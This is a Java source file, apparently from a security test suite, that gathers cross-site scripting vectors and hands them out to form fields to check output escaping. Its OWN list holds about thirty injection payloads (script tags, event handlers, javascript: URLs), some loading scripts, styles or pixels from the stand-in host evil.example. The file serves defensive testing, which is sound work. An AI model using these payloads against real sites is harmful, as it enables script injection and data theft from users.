package dev.festival.hostile;

import java.io.IOException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;

import dev.festival.Payloads;
import org.junit.jupiter.api.TestReporter;

/**
 * All that is typed: our own vectors, and the collections of others where they are at
 * hand.
 *
 * @param all of them, each once
 * @param deals those that were begun, by the fields they are for
 */
record Vectors(List<String> all, Map<String, Deal> deals) {

	/** Each of them acts in a page that doesn't escape it. */
	static final List<String> OWN = List.of("<script>alert(1)</script>", "\"><script>alert(2)</script>",
			"'><img src=x onerror=alert(3)>", "\" onmouseover=\"alert(4)", "' autofocus onfocus='alert(5)' x='",
			"</textarea><svg onload=alert(6)>", "</title><iframe src=javascript:alert(7)>",
			"--><body onload=alert(8)><!--", "<a href=javascript:alert(9)>click</a>", "javascript:alert(10)",
			"</option></select><script>alert(11)</script>", "<base href=//evil.example/>",
			"<img src=//evil.example/pixel.gif>", "<link rel=stylesheet href=https://evil.example/x.css>",
			"<iframe srcdoc='<script>alert(12)</script>'></iframe>", "<object data=data:text/html,x></object>",
			"<meta http-equiv=refresh content='0;url=javascript:alert(13)'>",
			"<form action=//evil.example><button>x</button></form>", "<details open ontoggle=alert(14)>x</details>",
			"<style>@import '//evil.example/x.css'</style>", "<input autofocus onfocus=alert(15)>",
			"<video><source onerror=alert(16)></video>", "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
			"<a href='java&#9;script:alert(18)'>x</a>", "<math><mtext></mtext><style><img src=x onerror=alert(19)>",
			"<script src=//evil.example/x.js></script>", "<b hx-get=//evil.example hx-trigger=load>x</b>",
			"<b hx-on:click=alert(20)>x</b>", "<template><script>alert(21)</script></template>",
			"<div style=\"background:url(//evil.example/x)\">x</div>",
			"[x](javascript:alert\\(22\\)) <u onclick=alert()>",
			"![x](//evil.example/y.gif) <img src=//evil.example/z.gif>");

	private static final String FILES = "(?i).*(?:blns\\.txt|h5sc|xss|payloadbox|DOM Clobbering|CSV|Template Injection"
			+ "|tokenizer/(?:test\\d|domjs|escapeFlag|contentModelFlags)|markdown-it|regression).*(?<!LICENSE)";

	/** What an HTML parser of others is tried with stands in JSON. */
	private static final Pattern INPUT = Pattern.compile("\"input\":\\s*\"(.*)\"\\s*,?\\s*");

	private static final Pattern PARSER = Pattern.compile("\"(?:description|initialStates|output|errors|tests)\":.*",
			Pattern.DOTALL);

	static Vectors collect(TestReporter reporter) throws IOException {
		Set<String> all = new LinkedHashSet<>();
		for (String line : Payloads.lines(OWN, FILES, reporter)) {
			String vector = INPUT.matcher(line).replaceFirst("$1");
			if (vector.length() > 1 && vector.length() <= 8_000 && !PARSER.matcher(line.strip()).lookingAt()) {
				all.add(vector.strip());
			}
		}
		return new Vectors(new ArrayList<>(all), new HashMap<>());
	}

	/**
	 * Deals them out to a field, each field from a place of its own.
	 */
	Deal deal(String field) {
		return this.deals.computeIfAbsent(field,
				(name) -> new Deal(this.all, Math.floorMod(name.hashCode(), this.all.size())));
	}

}
